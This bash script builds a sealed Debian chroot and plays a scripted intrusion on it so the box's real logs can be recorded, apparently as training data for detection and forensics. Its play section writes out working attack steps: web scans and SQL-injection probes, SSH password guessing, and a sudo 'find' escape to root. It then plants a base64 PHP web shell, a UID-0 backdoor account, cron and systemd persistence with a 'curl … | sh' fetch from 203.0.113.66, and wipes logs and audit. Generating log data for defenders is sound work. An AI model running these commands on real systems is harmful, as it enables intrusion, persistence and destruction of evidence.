#!/usr/bin/env bash
# Plays an intrusion on a throw-away Debian box and keeps what the box really logged.
#
#   record.sh FOLDER OUT      as root on Debian 12 or later, with debootstrap, unshare and a free kernel audit
#
# FOLDER is the clean box (made by debootstrap when absent), of which a copy is played on; OUT receives the logs.
# The box has its own network (loopback only, no way out), host name, processes and mounts. All people and
# addresses are made up: RFC 5737 documentation addresses play the internet, 10.20.0.0/24 the company. Every
# command that the attacker runs is harmless, and everything ends with the script.
set -euo pipefail

PACKAGES=openssh-server,openssh-client,sudo,rsyslog,cron,nginx-light,php8.2-fpm,php8.2-cli,auditd,sshpass,iproute2,procps,curl,netcat-openbsd,systemd,adduser,less

# ---------------------------------------------------------------- outside: make the box, start it, watch it
root="" auditd="" box=""
outside() {
  local clean=$1 out=$2
  [ "$(id -u)" = 0 ] || { echo "record.sh: needs root" >&2; exit 1; }
  if [ ! -e "$clean/etc/debian_version" ]; then
    debootstrap --variant=minbase --include="$PACKAGES" bookworm "$clean"
  fi
  clean=$(readlink -f "$clean")
  root="$clean.played"
  rm -rf "$root"
  cp -a "$clean" "$root"
  install_files
  # The kernel lets only the machine's first process namespace steer audit, so auditd stays outside the box's.
  # Rules name the box's own files, its one web user and people who logged in to it: nobody else's acts match.
  unshare --mount --uts bash -c \
    'mount -t proc proc "$1/proc" && hostname web-01 && exec chroot "$1" /sbin/auditd -n -s nochange' _ "$root" &
  auditd=$!
  trap finish EXIT
  sleep 1
  audit_rules >"$root/etc/audit/web-01.rules"
  chmod 600 "$root/etc/audit/web-01.rules"
  chroot "$root" /sbin/auditctl -R /etc/audit/web-01.rules >/dev/null
  chroot "$root" /sbin/auditctl -e 1 >/dev/null
  unshare --mount --uts --ipc --net --pid --fork --kill-child "$(readlink -f "$0")" --inside "$root" &
  box=$!
  wait "$box" || true
  finish
  trap - EXIT
  collect "$out"
  rm -rf "$root"
}

finish() {
  [ -z "$box" ] || kill "$box" 2>/dev/null || true
  chroot "$root" /sbin/auditctl -e 0 >/dev/null || true
  chroot "$root" /sbin/auditctl -D >/dev/null || true
  chroot "$root" /sbin/auditctl -b 64 >/dev/null || true    # the kernel's own default
  sleep 1
  kill "$auditd" 2>/dev/null || true
  wait "$auditd" 2>/dev/null || true
}

audit_rules() { # close to what hardening guides ask for
  cat <<'RULES'
-b 8192
-w /etc/passwd -p wa -k identity
-w /etc/shadow -p wa -k identity
-w /etc/group -p wa -k identity
-w /etc/sudoers -p wa -k privilege
-w /etc/sudoers.d -p wa -k privilege
-w /etc/cron.d -p wa -k cron
-w /var/spool/cron/crontabs -p wa -k cron
-w /etc/systemd/system -p wa -k systemd
-w /root/.ssh -p wa -k ssh-key
-w /home/deploy/.ssh -p wa -k ssh-key
-w /var/www/html -p wa -k webroot
-w /var/log/auth.log -p wa -k log-tampering
-a always,exit -F arch=b64 -S execve -F auid>=1000 -F auid!=-1 -F euid=0 -k root-by-person
-a always,exit -F arch=b64 -S execve -F uid=33 -k exec-by-web
-a always,exit -F arch=b64 -S truncate,ftruncate -F auid>=1000 -F auid!=-1 -F euid=0 -k log-tampering
RULES
}

install_files() {
  local www="$root/var/www/html" who
  # alice administers by key, bob looks after the shop by password, deploy is an account whose password is weak and
  # who may run find as root, which is as good as everything.
  for who in alice bob deploy; do chroot "$root" useradd -m -s /bin/bash "$who"; mkdir -m 700 "$root/home/$who/.ssh"; chroot "$root" chown "$who:" "/home/$who/.ssh"; done
  chroot "$root" usermod -aG sudo alice
  printf '%s\n' alice:amber-Kettle-7-orbit bob:quiet-Lantern-4-maple deploy:summer2026 | chroot "$root" chpasswd
  echo 'alice ALL=(ALL) NOPASSWD: ALL' >"$root/etc/sudoers.d/alice"
  echo 'deploy web-01=(root) NOPASSWD: /usr/bin/find' >"$root/etc/sudoers.d/deploy"
  chmod 440 "$root"/etc/sudoers.d/*
  mkdir -p "$root"/srv/collector "$root"/run/{sshd,php} "$root"/var/log/{nginx,audit} "$root"/root/.ssh "$www/uploads"
  rm -f "$www"/uploads/* "$www"/index.nginx-debian.html
  echo web-01 >"$root/etc/hostname"
  printf '127.0.0.1 localhost\n10.20.0.15 web-01\n' >"$root/etc/hosts"
  sed -i 's/^name_format.*/name_format = hostname/; s/^log_format.*/log_format = RAW/; s/^flush.*/flush = INCREMENTAL/' "$root/etc/audit/auditd.conf"
  # Local files as Debian has them, and a copy of each line to "the collector", which an intruder does not reach.
  cat >"$root/etc/rsyslog.conf" <<'CONF'
module(load="imuxsock")
$FileCreateMode 0640
auth,authpriv.*            action(type="omfile" file="/var/log/auth.log" template="RSYSLOG_TraditionalFileFormat")
*.*;auth,authpriv.none     action(type="omfile" file="/var/log/syslog" template="RSYSLOG_FileFormat")
auth,authpriv.*            action(type="omfile" file="/srv/collector/auth.log" template="RSYSLOG_TraditionalFileFormat")
*.*;auth,authpriv.none     action(type="omfile" file="/srv/collector/syslog.log" template="RSYSLOG_FileFormat")
CONF
  cat >"$root/etc/nginx/nginx.conf" <<'CONF'
user www-data;
worker_processes 1;
pid /run/nginx.pid;
events { worker_connections 256; }
http {
  include mime.types;
  log_format fleet '$hostname $remote_addr - $remote_user [$time_local] "$request" $status $body_bytes_sent "$http_referer" "$http_user_agent"';
  access_log /var/log/nginx/access.log fleet;
  error_log /var/log/nginx/error.log notice;
  server {
    listen 10.20.0.15:80;
    root /var/www/html;
    index index.php;
    location / { try_files $uri $uri/ =404; }
    location ~ \.php$ { try_files $uri =404; include fastcgi.conf; fastcgi_pass unix:/run/php/box.sock; }
  }
}
CONF
  cat >"$root/etc/php/8.2/fpm/pool.d/www.conf" <<'CONF'
[www]
user = www-data
group = www-data
listen = /run/php/box.sock
listen.owner = www-data
pm = static
pm.max_children = 2
CONF
  echo '<?php echo "<h1>Example Shop</h1><p>Open today.</p>"; ?>' >"$www/index.php"
  echo '<?php echo "<h1>Products</h1>"; echo htmlspecialchars($_GET["id"] ?? ""); ?>' >"$www/product.php"
  echo 'body{font-family:sans-serif}' >"$www/style.css"
  printf 'User-agent: *\nDisallow:\n' >"$www/robots.txt"
  echo '* * * * * root test -x /usr/lib/php/sessionclean && /usr/lib/php/sessionclean' >"$root/etc/cron.d/php"
  rm -f "$root"/etc/cron.d/{e2scrub_all,logrotate}
  cat >"$root/etc/ssh/sshd_config" <<'CONF'
ListenAddress 10.20.0.15
PermitRootLogin prohibit-password
PasswordAuthentication yes
KbdInteractiveAuthentication no
UsePAM yes
PrintMotd no
MaxStartups 50:30:100
CONF
  rm -f "$root"/etc/ssh/ssh_host_* "$root"/etc/update-motd.d/*
  echo LANG=C.UTF-8 >"$root/etc/default/locale"
  touch "$root"/var/log/{wtmp,btmp,lastlog}
  sed -i /pam_limits/d "$root/etc/pam.d/sudo"     # the box may not raise limits; that would be noise in its log
}

collect() {
  local out=$1
  mkdir -p "$out"
  cp "$root/srv/collector/auth.log" "$out/auth.log"
  cp "$root/srv/collector/syslog.log" "$out/syslog.log"
  cp "$root/var/log/nginx/access.log" "$out/nginx-access.log"
  cp "$root/srv/collector/story.tsv" "$out/story.tsv"
  # Only what the box wrote under its own name; the audit trail is the whole machine's.
  cat "$root"/var/log/audit/audit.log* | grep '^node=web-01 ' | grep -v ' type=\(CONFIG_CHANGE\|DAEMON_[A-Z]*\) ' >"$out/audit.log"
  chmod 644 "$out"/*.log
  wc -lc "$out"/*
}

# ---------------------------------------------------------------- inside: the box
inside() {
  local root=$1 svc
  mount --make-rprivate /
  mount --bind "$root" "$root"
  mount -t proc proc "$root/proc"
  mount -t tmpfs tmpfs "$root/run"
  mkdir -p "$root"/run/{sshd,php,lock}
  touch "$root/run/utmp"
  mount -t tmpfs tmpfs "$root/dev"
  local d
  for d in "null 1 3" "zero 1 5" "random 1 8" "urandom 1 9" "tty 5 0"; do
    # shellcheck disable=SC2086
    set -- $d
    mknod -m 666 "$root/dev/$1" c "$2" "$3"
  done
  mkdir -p "$root/dev/pts"
  mount -t devpts -o newinstance,ptmxmode=0666,mode=620,gid=5 devpts "$root/dev/pts"
  ln -s pts/ptmx "$root/dev/ptmx"
  ln -s /proc/self/fd "$root/dev/fd"
  hostname web-01
  ip link set lo up
  ip addr add 10.20.0.15/32 dev lo              # web-01
  for svc in 31 32; do ip addr add 10.20.0.$svc/32 dev lo; done   # two people's desks
  for svc in 21 22 23 24; do ip addr add 198.51.100.$svc/32 dev lo; done   # visitors
  ip addr add 203.0.113.66/32 dev lo            # the attacker
  cp "$0" "$root/root/record.sh"
  exec chroot "$root" /usr/bin/env -i PATH=/usr/sbin:/usr/bin:/sbin:/bin HOME=/root LANG=C.UTF-8 bash /root/record.sh --play
}

say() { # a line of the story, for whoever replays it
  echo "[$(date +%T)] $*" >&2
  printf '%s\t%s\n' "$(date -u +%FT%TZ)" "$*" >>/srv/collector/story.tsv
}
visit() { # FROM PATH [AGENT]
  curl -s -o /dev/null --max-time 10 --interface "$1" -A "${3:-Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0}" "http://10.20.0.15$2" || true
}
SSH="ssh -q -tt -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o ConnectTimeout=10"
by_key() { local from=$1 who=$2 key=$3; shift 3; $SSH -o PasswordAuthentication=no -i "$key" -b "$from" "$who@10.20.0.15" "$@" </dev/null >/dev/null 2>&1 || true; }
by_password() { local from=$1 who=$2 password=$3; shift 3; sshpass -p "$password" $SSH -o PubkeyAuthentication=no -o NumberOfPasswordPrompts=1 -b "$from" "$who@10.20.0.15" "$@" </dev/null >/dev/null 2>&1 || true; }

visitors() { # ordinary web traffic until the end
  local pages=(/ / /product.php?id=1 /product.php?id=7 /style.css /robots.txt /favicon.ico) i=0
  while :; do
    visit "198.51.100.$((21 + RANDOM % 4))" "${pages[RANDOM % ${#pages[@]}]}" \
      "$([ $((RANDOM % 2)) = 0 ] && echo 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36' || echo 'Mozilla/5.0 (iPhone; CPU iPhone OS 18_0 like Mac OS X) AppleWebKit/605.1.15 Version/18.0 Mobile/15E148 Safari/604.1')"
    i=$((i + 1)); sleep "0.$((5 + RANDOM % 5))"; sleep $((RANDOM % 2))
  done
}

play() {
  mkdir -p /tmp/desk /tmp/attacker; ssh-keygen -q -t ed25519 -N '' -C alice@desk -f /tmp/desk/alice; ssh-keygen -q -t ed25519 -N '' -C root@kali -f /tmp/attacker/key
  install -m 600 -o alice -g alice /tmp/desk/alice.pub /home/alice/.ssh/authorized_keys
  ssh-keygen -A >/dev/null
  chown root:www-data /var/www/html/uploads

  rsyslogd -n -iNONE & sleep 1
  /usr/sbin/sshd -D & cron -f & php-fpm8.2 -F >/dev/null 2>&1 & sleep 1; nginx -g 'daemon off;' & sleep 1
  say "An ordinary day: visitors read the shop, alice administers, bob mistypes his password once."
  visitors & local visiting=$!
  by_key 10.20.0.31 alice /tmp/desk/alice 'uptime; sudo nginx -t; sleep 3; sudo systemctl status nginx --no-pager; sleep 2; sudo tail -n 3 /var/log/nginx/access.log'
  sleep 4
  by_password 10.20.0.32 bob 'quiet-lantern-4-maple' true      # one slip of the finger
  sleep 2
  by_password 10.20.0.32 bob 'quiet-Lantern-4-maple' 'ls -l /var/www/html; sleep 4; cat /etc/hostname'
  sleep 5
  by_key 10.20.0.31 alice /tmp/desk/alice 'sudo nginx -s reload; sleep 2; df -h /'
  sleep 8

  say "203.0.113.66 scans the web site for forgotten files and injection holes."
  local path
  for path in /.env /.git/config /wp-login.php /wp-admin/ /phpmyadmin/index.php /admin.php /backup.zip /server-status /config.php.bak /cgi-bin/test.cgi \
    '/product.php?id=1%27%20UNION%20SELECT%201,user(),3--%20-' '/product.php?id=../../../../etc/passwd' '/product.php?id=%3Cscript%3Ealert(1)%3C/script%3E' /uploads/ /shell.php; do
    visit 203.0.113.66 "$path" 'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:map_codes)'; sleep 0.4
  done
  visit 203.0.113.66 '/product.php?id=1%20AND%201=1' 'sqlmap/1.8.11#stable (https://sqlmap.org)'
  sleep 6

  say "203.0.113.66 guesses passwords over SSH, eight accounts, six words each."
  local who word tries=0
  for who in root admin oracle test ubuntu postgres git deploy; do
    for word in 123456 password admin "$who" "${who}123" welcome1; do
      by_password 203.0.113.66 "$who" "$word" true & tries=$((tries + 1))
      [ $((tries % 4)) = 0 ] && sleep 1.6
    done
  done
  sleep 4
  say "One fits: the attacker is in as deploy and looks round."
  by_password 203.0.113.66 deploy summer2026 'id; uname -a; cat /etc/passwd | head -3; w; sleep 3; sudo -n -l; sleep 2'
  sleep 5

  say "sudo is tried until 'find' lets a root shell out."
  by_password 203.0.113.66 deploy summer2026 'for c in "cat /etc/shadow" "su -" "/bin/bash"; do echo summer2026 | sudo -S -p "" $c; sleep 2; done; printf "%s\n" a b c | sudo -S -k -p "" id; sleep 2; sudo -n find /etc/hostname -exec /bin/sh -c "id; head -1 /etc/shadow | cut -c1-5" \; ; sleep 3'
  sleep 4

  say "A web shell appears among the uploads and is used."
  by_password 203.0.113.66 deploy summer2026 'sudo -n find /etc/hostname -exec /bin/sh -c "echo PD9waHAgaWYoaXNzZXQoJF9HRVRbJ2MnXSkpe3N5c3RlbSgkX0dFVFsnYyddKTt9Pz4K | base64 -d > /var/www/html/uploads/thumb.php" \;'
  sleep 3
  for path in 'c=id' 'c=whoami' 'c=uname+-a' 'c=cat+/etc/passwd' 'c=ls+-la+/var/www/html' 'c=ps+aux' 'c=cat+/etc/crontab' 'c=which+curl+wget+nc+python3' 'c=curl+-s+http%3A%2F%2F10.20.0.15%2Frobots.txt+-o+%2Ftmp%2Fr' 'c=rm+-f+%2Ftmp%2Fr'; do
    visit 203.0.113.66 "/uploads/thumb.php?$path" 'python-requests/2.32.3'; sleep 1.3
  done
  sleep 4

  say "The attacker digs in: a second root account, keys, cron, a systemd unit."
  cp /tmp/attacker/key.pub /home/deploy/.k.pub; chown deploy /home/deploy/.k.pub
  by_password 203.0.113.66 deploy summer2026 'cat ~/.k.pub >> ~/.ssh/authorized_keys; chmod 600 ~/.ssh/authorized_keys; sleep 1; sudo -n find /etc/hostname -exec /usr/sbin/useradd -m -o -u 0 -s /bin/bash svc-backup \; ; sleep 1; sudo -n find /etc/hostname -exec /bin/sh -c "echo svc-backup:winter2026 | chpasswd" \; ; sleep 1; sudo -n find /etc/hostname -exec /usr/sbin/usermod -aG sudo svc-backup \; ; sleep 1; sudo -n find /etc/hostname -exec /bin/sh -c "mkdir -p /root/.ssh && cat /home/deploy/.k.pub >> /root/.ssh/authorized_keys" \;'
  sleep 3
  by_key 203.0.113.66 root /tmp/attacker/key 'id; printf "#!/bin/sh\ndate > /var/tmp/.seen\n" > /usr/local/sbin/.sysupd; chmod 755 /usr/local/sbin/.sysupd; echo "* * * * * root /usr/local/sbin/.sysupd" > /etc/cron.d/sysupd; sleep 1; (crontab -l 2>/dev/null; echo "*/5 * * * * curl -fsS http://203.0.113.66/i.sh | sh") | crontab -; sleep 1; printf "[Service]\nExecStart=/usr/local/sbin/.sysupd\n[Install]\nWantedBy=multi-user.target\n" > /etc/systemd/system/sysupd.service; systemctl enable sysupd.service; sleep 1; systemctl daemon-reload'
  sleep 3

  say "Traces are wiped: auth.log is emptied, audit is to be stopped."
  by_key 203.0.113.66 deploy /tmp/attacker/key 'sudo -n find /var/log -name auth.log -exec truncate -s 0 {} \; ; sleep 1; sudo -n find /var/log/nginx -name "*.log.1" -exec shred -u {} \; ; sleep 1; sudo -n find /root -name .bash_history -delete; ln -sf /dev/null ~/.bash_history; sleep 1; sudo -n find /etc/hostname -exec systemctl stop auditd \; ; sudo -n find /etc/hostname -exec auditctl -e 0 \; ; history -c'
  sleep 2
  visit 203.0.113.66 '/uploads/thumb.php?c=cat+/var/tmp/.seen' 'python-requests/2.32.3'
  sleep $(((64 - 10#$(date +%S)) % 60))        # past the next full minute, at which the planted cron entry runs
  by_key 10.20.0.31 alice /tmp/desk/alice 'sudo tail -n 5 /var/log/auth.log; sleep 2; last -n 5'
  sleep 2
  kill "$visiting" 2>/dev/null || true
  say "The planted cron entry has run; alice comes back to an empty auth.log."
}

case "${1:-}" in
  --inside) inside "$2" ;;
  --play) play ;;
  *) [ $# = 2 ] || { sed -n '2,9p' "$0" | sed 's/^# \{0,1\}//'; exit 2; }; outside "$1" "$2" ;;
esac
